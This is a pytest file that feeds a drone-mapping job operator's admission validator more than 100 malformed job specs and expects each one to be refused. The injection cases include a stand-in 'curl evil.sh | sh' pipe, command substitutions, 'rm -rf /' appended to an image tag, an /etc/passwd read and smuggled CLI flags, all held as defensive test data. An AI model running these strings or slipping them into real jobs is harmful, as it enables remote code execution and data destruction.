"""A hand corpus of malformed ODMJobs: each is refused, with an error at the expected field path.

Table-driven, one reason per case, grouped by what is wrong: wrong types, huge values, unicode, path traversal
and other tricks in S3 URIs, injection attempts in ODM options and the image, oversize overrides, structure. It
complements tests/unit/test_validation.py (which checks messages and which layer refuses what) with breadth; no
case here repeats one there. The validator must never raise, whatever it is given.
"""

from __future__ import annotations

from typing import Any

import pytest

from odm_operator.plan.admission import check_job
from odm_operator.settings import Settings

from .helpers import DELETE, job

SETTINGS = Settings()
EC2 = {"type": "ec2"}
BIG = "9" * 5000


def ec2(**resources: Any) -> dict[str, Any]:
    """An ec2 job with these resources (so no Fargate size rule gets in the way)."""
    return job(spec__capacity=EC2, spec__resources={"cpu": 4, "memory": "16Gi", **resources})


def options(**values: Any) -> dict[str, Any]:
    return job(spec__odm={"options": values})


def option(name: str, value: Any) -> dict[str, Any]:
    return job(spec__odm={"options": {name: value}})


def s3_in(uri: Any) -> dict[str, Any]:
    return job(spec__input={"s3Uri": uri})


def s3_out(uri: Any) -> dict[str, Any]:
    return job(spec__output={"s3Uri": uri})


CASES: list[tuple[str, dict[str, Any], str]] = [
    # ----- wrong types -------------------------------------------------------------------------------------
    ("spec is a list", job(spec=["input", "output"]), "spec"),
    ("spec is a string", job(spec="s3://drone-raw/farm/"), "spec"),
    ("spec is null", job(spec=None), "spec"),
    ("input is a bare string", job(spec__input="s3://drone-raw/farm/"), "spec.input"),
    ("input is a list of URIs", job(spec__input=[{"s3Uri": "s3://drone-raw/farm/"}]), "spec.input"),
    ("input URI is a number", s3_in(42), "spec.input.s3Uri"),
    ("input URI is a list", s3_in(["s3://drone-raw/a/", "s3://drone-raw/b/"]), "spec.input.s3Uri"),
    ("output URI is null", s3_out(None), "spec.output.s3Uri"),
    ("output URI is a map", s3_out({"bucket": "drone-products"}), "spec.output.s3Uri"),
    ("odm is a string", job(spec__odm="opendronemap/odm:3.6.0"), "spec.odm"),
    ("odm.image is a number", job(spec__odm={"image": 3.6}), "spec.odm.image"),
    ("odm.image is a list", job(spec__odm={"image": ["opendronemap/odm"]}), "spec.odm.image"),
    ("odm.options is a string of flags", job(spec__odm={"options": "--dsm --dtm"}), "spec.odm.options"),
    ("odm.options is a number", job(spec__odm={"options": 1}), "spec.odm.options"),
    ("resources is a list", job(spec__resources=[4, "16Gi"]), "spec.resources"),
    ("resources is a string", job(spec__resources="4 vCPU, 16 GiB"), "spec.resources"),
    ("cpu is a boolean", ec2(cpu=True), "spec.resources.cpu"),
    ("cpu is a list", ec2(cpu=[4]), "spec.resources.cpu"),
    ("cpu is a map", ec2(cpu={"value": 4}), "spec.resources.cpu"),
    ("cpu is null", ec2(cpu=None), "spec.resources.cpu"),
    ("memory is a boolean", ec2(memory=False), "spec.resources.memory"),
    ("memory is a float", ec2(memory=16.5), "spec.resources.memory"),
    (
        "gpu is a string",
        job(spec__capacity=EC2, spec__resources={"cpu": 8, "memory": "32Gi", "gpu": "1"}),
        "spec.resources.gpu",
    ),
    (
        "gpu is a float",
        job(spec__capacity=EC2, spec__resources={"cpu": 8, "memory": "32Gi", "gpu": 1.0}),
        "spec.resources.gpu",
    ),
    (
        "gpu is a boolean",
        job(spec__capacity=EC2, spec__resources={"cpu": 8, "memory": "32Gi", "gpu": True}),
        "spec.resources.gpu",
    ),
    ("disk is a boolean", ec2(disk=True), "spec.resources.disk"),
    ("disk is a float", ec2(disk=100.5), "spec.resources.disk"),
    ("capacity is a list", job(spec__capacity=["fargate"]), "spec.capacity"),
    ("capacity is the string fargate", job(spec__capacity="fargate"), "spec.capacity"),
    ("capacity type is a number", job(spec__capacity={"type": 2}), "spec.capacity.type"),
    ("capacity type is a boolean", job(spec__capacity={"type": True}), "spec.capacity.type"),
    ("spot is 1", job(spec__capacity={"type": "fargate", "spot": 1}), "spec.capacity.spot"),
    (
        "spot is the string true",
        job(spec__capacity={"type": "fargate", "spot": "true"}),
        "spec.capacity.spot",
    ),
    (
        "instanceTypes is a string",
        job(spec__capacity={"type": "ec2", "instanceTypes": "r5.large"}),
        "spec.capacity.instanceTypes",
    ),
    (
        "instanceTypes holds a number",
        job(spec__capacity={"type": "ec2", "instanceTypes": [5]}),
        "spec.capacity.instanceTypes[0]",
    ),
    (
        "maxInstances is a string",
        job(spec__capacity={"type": "ec2", "maxInstances": "10"}),
        "spec.capacity.maxInstances",
    ),
    (
        "maxInstances is a fraction",
        job(spec__capacity={"type": "ec2", "maxInstances": 10.5}),
        "spec.capacity.maxInstances",
    ),
    ("cluster is a number", job(spec__capacity={"type": "fargate", "cluster": 7}), "spec.capacity.cluster"),
    (
        "provider is a list",
        job(spec__capacity={"type": "ec2", "provider": ["cp-1"]}),
        "spec.capacity.provider",
    ),
    (
        "architecture x86",
        job(spec__capacity={"type": "ec2", "architecture": "x86"}),
        "spec.capacity.architecture",
    ),
    (
        "architecture is a number",
        job(spec__capacity={"type": "ec2", "architecture": 64}),
        "spec.capacity.architecture",
    ),
    ("retryPolicy is a string", job(spec__retryPolicy="escalate"), "spec.retryPolicy"),
    (
        "onOutOfMemory is a boolean",
        job(spec__retryPolicy={"onOutOfMemory": True}),
        "spec.retryPolicy.onOutOfMemory",
    ),
    ("backoffLimit is a string", job(spec__backoffLimit="2"), "spec.backoffLimit"),
    ("backoffLimit is a float", job(spec__backoffLimit=2.0), "spec.backoffLimit"),
    ("backoffLimit is a boolean", job(spec__backoffLimit=True), "spec.backoffLimit"),
    (
        "activeDeadlineSeconds is a duration string",
        job(spec__activeDeadlineSeconds="48h"),
        "spec.activeDeadlineSeconds",
    ),
    (
        "activeDeadlineSeconds is a float",
        job(spec__activeDeadlineSeconds=3600.5),
        "spec.activeDeadlineSeconds",
    ),
    (
        "ttlSecondsAfterFinished is a boolean",
        job(spec__ttlSecondsAfterFinished=False),
        "spec.ttlSecondsAfterFinished",
    ),
    ("suspend is 0", job(spec__suspend=0), "spec.suspend"),
    ("suspend is the string false", job(spec__suspend="false"), "spec.suspend"),
    ("suspend is null", job(spec__suspend=None), "spec.suspend"),
    ("taskRoleArn is a number", job(spec__taskRoleArn=123456789012), "spec.taskRoleArn"),
    ("metadata is a list", job(metadata=["job-1"]), "metadata.name"),
    ("name is a number", job(metadata={"name": 7}), "metadata.name"),
    ("kind is lower case", job(kind="odmjob"), "kind"),
    # ----- huge values -------------------------------------------------------------------------------------
    ("backoffLimit 10^18", job(spec__backoffLimit=10**18), "spec.backoffLimit"),
    (
        "maxInstances 2^63",
        job(spec__capacity={"type": "ec2", "maxInstances": 2**63}),
        "spec.capacity.maxInstances",
    ),
    (
        "gpu 10^9",
        job(spec__capacity=EC2, spec__resources={"cpu": 8, "memory": "32Gi", "gpu": 10**9}),
        "spec.resources.gpu",
    ),
    ("cpu 10^30", ec2(cpu=10**30), "spec.resources.cpu"),
    ("cpu with a 5000-digit number", ec2(cpu=BIG), "spec.resources.cpu"),
    ("memory exponent overflows Decimal", ec2(memory="1e999999999"), "spec.resources.memory"),
    ("memory exponent of 10000", ec2(memory="1e9999"), "spec.resources.memory"),
    ("memory 5000 digits of Ei", ec2(memory=BIG + "Ei"), "spec.resources.memory"),
    ("memory 1Ei", ec2(memory="1Ei"), "spec.resources.memory"),
    ("disk exponent overflows Decimal", ec2(disk="9e99999999"), "spec.resources.disk"),
    ("disk 1Pi", ec2(disk="1Pi"), "spec.resources.disk"),
    ("disk 65537Gi", ec2(disk="65537Gi"), "spec.resources.disk"),
    ("memory a negative exponent", ec2(memory="1e-999999"), "spec.resources.memory"),
    ("memory negative", ec2(memory="-16Gi"), "spec.resources.memory"),
    ("cpu zero", ec2(cpu=0), "spec.resources.cpu"),
    ("cpu 1 milli-core", ec2(cpu="1m"), "spec.resources.cpu"),
    (
        "activeDeadlineSeconds negative",
        job(spec__activeDeadlineSeconds=-(2**63)),
        "spec.activeDeadlineSeconds",
    ),
    (
        "1000 instance types",
        job(spec__capacity={"type": "ec2", "instanceTypes": [f"r5.{i}xlarge" for i in range(1000)]}),
        "spec.capacity.instanceTypes",
    ),
    (
        "101 ODM options",
        job(spec__odm={"options": {f"opt{i}": True for i in range(101)}}),
        "spec.odm.options",
    ),
    ("image of 256 characters", job(spec__odm={"image": "a" * 256}), "spec.odm.image"),
    ("name of 254 characters", job(metadata={"name": "a" * 254}), "metadata.name"),
    (
        "taskRoleArn of 3000 characters",
        job(spec__taskRoleArn="arn:aws:iam::123456789012:role/" + "r" * 3000),
        "spec.taskRoleArn",
    ),
    (
        "cluster of 256 characters",
        job(spec__capacity={"type": "fargate", "cluster": "c" * 256}),
        "spec.capacity.cluster",
    ),
    # ----- unicode -----------------------------------------------------------------------------------------
    ("cyrillic a in the bucket", s3_in("s3://drоne-raw/farm/"), "spec.input.s3Uri"),
    ("full-width letters in the bucket", s3_out("s3://ｄｒｏｎｅ/out/"), "spec.output.s3Uri"),
    ("emoji bucket", s3_in("s3://🛩️-raw/farm/"), "spec.input.s3Uri"),
    (
        "right-to-left override in the prefix",
        s3_out("s3://drone-products/\u202eexe.tif/"),
        "spec.output.s3Uri",
    ),
    ("NUL in the prefix", s3_in("s3://drone-raw/farm\x00/"), "spec.input.s3Uri"),
    ("newline in the prefix", s3_out("s3://drone-products/a\nb/"), "spec.output.s3Uri"),
    ("DEL in the prefix", s3_in("s3://drone-raw/a\x7fb/"), "spec.input.s3Uri"),
    ("prefix over 1024 bytes in UTF-8", s3_in("s3://drone-raw/" + "é" * 600), "spec.input.s3Uri"),
    ("accented ODM option name", option("dsm-é", True), "spec.odm.options.dsm-é"),
    ("empty ODM option name", option("", True), "spec.odm.options"),
    ("zero-width space in an option name", option("dsm\u200b", True), "spec.odm.options.dsm\u200b"),
    ("ligature in a choice value", option("feature-quality", "ﬁne"), "spec.odm.options.feature-quality"),
    ("greek name", job(metadata={"name": "χωράφι"}), "metadata.name"),
    ("emoji in the image", job(spec__odm={"image": "opendronemap/odm:🚀"}), "spec.odm.image"),
    ("unicode digits as a quantity", ec2(memory="١٦Gi"), "spec.resources.memory"),
    ("full-width digits as cpu", ec2(cpu="４"), "spec.resources.cpu"),
    (
        "unicode instance type",
        job(spec__capacity={"type": "ec2", "instanceTypes": ["r5.lаrge"]}),
        "spec.capacity.instanceTypes[0]",
    ),
    # ----- S3: traversal and tricks ------------------------------------------------------------------------
    ("traversal at the start of the key", s3_in("s3://drone-raw/../secrets/"), "spec.input.s3Uri"),
    ("traversal at the end", s3_out("s3://drone-products/farm/.."), "spec.output.s3Uri"),
    ("a dot segment", s3_out("s3://drone-products/./farm/"), "spec.output.s3Uri"),
    (
        "traversal escaping into another job's output",
        s3_out("s3://drone-products/mine/../../theirs/"),
        "spec.output.s3Uri",
    ),
    ("scheme in upper case", s3_in("S3://drone-raw/farm/"), "spec.input.s3Uri"),
    ("s3a scheme", s3_in("s3a://drone-raw/farm/"), "spec.input.s3Uri"),
    ("an https URL", s3_out("https://drone-products.s3.amazonaws.com/x/"), "spec.output.s3Uri"),
    ("an ARN for a URI", s3_out("arn:aws:s3:::drone-products/x"), "spec.output.s3Uri"),
    ("credentials in the URI", s3_in("s3://AKIA:secret@drone-raw/farm/"), "spec.input.s3Uri"),
    ("a query string for the bucket", s3_in("s3://drone-raw?versionId=1/farm/"), "spec.input.s3Uri"),
    ("empty bucket", s3_in("s3:///farm/"), "spec.input.s3Uri"),
    ("bucket with an underscore", s3_out("s3://drone_products/x/"), "spec.output.s3Uri"),
    ("bucket of 64 characters", s3_out("s3://" + "b" * 64 + "/x/"), "spec.output.s3Uri"),
    ("bucket starting with xn--", s3_out("s3://xn--drone/x/"), "spec.output.s3Uri"),
    ("bucket ending in -s3alias", s3_out("s3://drone-s3alias/x/"), "spec.output.s3Uri"),
    ("bucket ending with a dash", s3_in("s3://drone-/farm/"), "spec.input.s3Uri"),
    ("bucket with two dots", s3_in("s3://drone..raw/farm/"), "spec.input.s3Uri"),
    ("C1 control (NEL) in the prefix", s3_out("s3://drone-products/a\u0085b/"), "spec.output.s3Uri"),
    ("zero-width space in the prefix", s3_in("s3://drone-raw/fa\u200brm/"), "spec.input.s3Uri"),
    ("byte order mark in the prefix", s3_out("s3://drone-products/\ufeffout/"), "spec.output.s3Uri"),
    ("output equals input without the trailing slash", s3_out("s3://drone-raw/farm"), "spec.output.s3Uri"),
    ("URI of 1025 characters", s3_in("s3://drone-raw/" + "k" * 1010), "spec.input.s3Uri"),
    # ----- injection attempts in ODM options and the image ------------------------------------------------
    (
        "a second flag in a value",
        option("orthophoto-compression", "LZW --copy-to /tmp"),
        "spec.odm.options.orthophoto-compression",
    ),
    (
        "shell command in a string option",
        option("primary-band", "red; curl evil.sh | sh"),
        "spec.odm.options.primary-band",
    ),
    ("command substitution", option("primary-band", "$(id)"), "spec.odm.options.primary-band"),
    ("backticks", option("primary-band", "`reboot`"), "spec.odm.options.primary-band"),
    (
        "newline smuggling a flag",
        option("primary-band", "red\n--project-path=/"),
        "spec.odm.options.primary-band",
    ),
    (
        "a value that is another flag",
        option("primary-band", "--project-path"),
        "spec.odm.options.primary-band",
    ),
    ("a value that is a short flag", option("primary-band", "-h"), "spec.odm.options.primary-band"),
    ("path in a choice", option("end-with", "../../odm_orthophoto"), "spec.odm.options.end-with"),
    ("option name that is a flag", option("--copy-to", "/mnt"), "spec.odm.options.--copy-to"),
    (
        "option name holding a value",
        option("dsm --copy-to=/mnt", True),
        "spec.odm.options.dsm --copy-to=/mnt",
    ),
    ("option name with equals", option("project-path=/", True), "spec.odm.options.project-path=/"),
    ("reserved option: sm-cluster", option("sm-cluster", "http://evil:3000"), "spec.odm.options.sm-cluster"),
    ("reserved option: boundary file", option("boundary", "/etc/passwd"), "spec.odm.options.boundary"),
    ("reserved option: cameras", option("cameras", "../cameras.json"), "spec.odm.options.cameras"),
    ("reserved option: rerun-all", option("rerun-all", True), "spec.odm.options.rerun-all"),
    ("reserved option: align", option("align", "s3://other/align.tif"), "spec.odm.options.align"),
    ("flag given a string", option("dsm", "true"), "spec.odm.options.dsm"),
    ("flag given 1", option("fast-orthophoto", 1), "spec.odm.options.fast-orthophoto"),
    ("int option given a float", option("mesh-octree-depth", 11.5), "spec.odm.options.mesh-octree-depth"),
    ("int option given a string", option("max-concurrency", "4"), "spec.odm.options.max-concurrency"),
    ("int option given true", option("split", True), "spec.odm.options.split"),
    (
        "number option given a list",
        option("orthophoto-resolution", [2, 5]),
        "spec.odm.options.orthophoto-resolution",
    ),
    (
        "number option below its minimum",
        option("orthophoto-resolution", 0),
        "spec.odm.options.orthophoto-resolution",
    ),
    (
        "number option above its maximum (ODM clamps mesh-octree-depth to 1..14)",
        option("mesh-octree-depth", 15),
        "spec.odm.options.mesh-octree-depth",
    ),
    ("number option given NaN", option("crop", float("nan")), "spec.odm.options.crop"),
    ("number option given infinity", option("pc-filter", float("inf")), "spec.odm.options.pc-filter"),
    ("choice in the wrong case", option("feature-quality", "HIGH"), "spec.odm.options.feature-quality"),
    ("choice given a map", option("pc-quality", {"value": "high"}), "spec.odm.options.pc-quality"),
    ("string option of 33 characters", option("primary-band", "b" * 33), "spec.odm.options.primary-band"),
    (
        "image with a shell suffix",
        job(spec__odm={"image": "opendronemap/odm:3.6.0; rm -rf /"}),
        "spec.odm.image",
    ),
    ("image with spaces", job(spec__odm={"image": "opendronemap/odm 3.6"}), "spec.odm.image"),
    ("image with a bad digest", job(spec__odm={"image": "opendronemap/odm@sha256:xyz"}), "spec.odm.image"),
    (
        "image with upper case repository",
        job(spec__odm={"image": "OpenDroneMap/ODM:3.6.0"}),
        "spec.odm.image",
    ),
    ("empty image", job(spec__odm={"image": ""}), "spec.odm.image"),
    # ----- oversize overrides ------------------------------------------------------------------------------
    # the message names the largest fields; the error sits at the largest one
    ("input and output URIs at their limits make RunTask overrides too large", None, "spec.output.s3Uri"),
    # ----- structure ---------------------------------------------------------------------------------------
    ("output missing", job(spec__output=DELETE), "spec.output"),
    ("s3Uri missing in input", job(spec__input={}), "spec.input.s3Uri"),
    ("s3Uri misspelled", job(spec__input={"s3uri": "s3://drone-raw/farm/"}), "spec.input.s3uri"),
    ("resources without cpu", job(spec__resources={"memory": "16Gi"}), "spec.resources.cpu"),
    (
        "unknown resource: ephemeral-storage",
        ec2(**{"ephemeral-storage": "100Gi"}),
        "spec.resources.ephemeral-storage",
    ),
    (
        "unknown field in retryPolicy",
        job(spec__retryPolicy={"onOutOfMemory": "fail", "maxRetries": 3}),
        "spec.retryPolicy.maxRetries",
    ),
    ("status written into spec", job(spec__status={"phase": "Succeeded"}), "spec.status"),
    ("AWS credentials in spec", job(spec__awsAccessKeyId="AKIAIOSFODNN7EXAMPLE"), "spec.awsAccessKeyId"),
    ("environment variables in spec", job(spec__odm={"env": {"AWS_SECRET_ACCESS_KEY": "x"}}), "spec.odm.env"),
    ("a command override in spec", job(spec__odm={"command": ["sh", "-c", "id"]}), "spec.odm.command"),
    (
        "provider with instance types",
        job(spec__capacity={"type": "ec2", "provider": "cp-1", "instanceTypes": ["r5.large"]}),
        "spec.capacity.instanceTypes",
    ),
    (
        "fargate with a provider",
        job(spec__capacity={"type": "fargate", "provider": "cp-1"}),
        "spec.capacity.provider",
    ),
    (
        "taskRoleArn with a 5-digit account",
        job(spec__taskRoleArn="arn:aws:iam::12345:role/x"),
        "spec.taskRoleArn",
    ),
    (
        "taskRoleArn for a user, not a role",
        job(spec__taskRoleArn="arn:aws:iam::123456789012:user/admin"),
        "spec.taskRoleArn",
    ),
    ("missing apiVersion", job(apiVersion=DELETE), "apiVersion"),
]


def _oversize() -> dict[str, Any]:
    """The longest URIs the schema allows, plus long options: past a lowered override limit."""
    return job(
        spec__input={"s3Uri": "s3://drone-raw/" + "i" * 1000},
        spec__output={"s3Uri": "s3://drone-products/" + "o" * 1000},
        spec__odm={"options": {"primary-band": "b" * 32, "feature-quality": "ultra", "pc-quality": "ultra"}},
    )


CASES = [(reason, obj if obj is not None else _oversize(), path) for reason, obj, path in CASES]


def test_the_corpus_has_at_least_100_cases_with_distinct_reasons():
    assert len(CASES) >= 100
    assert len({reason for reason, _, _ in CASES}) == len(CASES)


@pytest.mark.parametrize(("reason", "obj", "path"), CASES, ids=[c[0] for c in CASES])
def test_a_malformed_job_is_refused_at_its_field(reason, obj, path):
    limit = 2000 if "overrides" in reason else None
    errors = check_job(obj, SETTINGS, max_override_chars=limit) if limit else check_job(obj, SETTINGS)
    assert errors, f"{reason}: accepted"
    paths = [e.path for e in errors]
    assert path in paths, f"{reason}: expected an error at {path}, got {[str(e) for e in errors]}"
    assert all(e.message for e in errors)
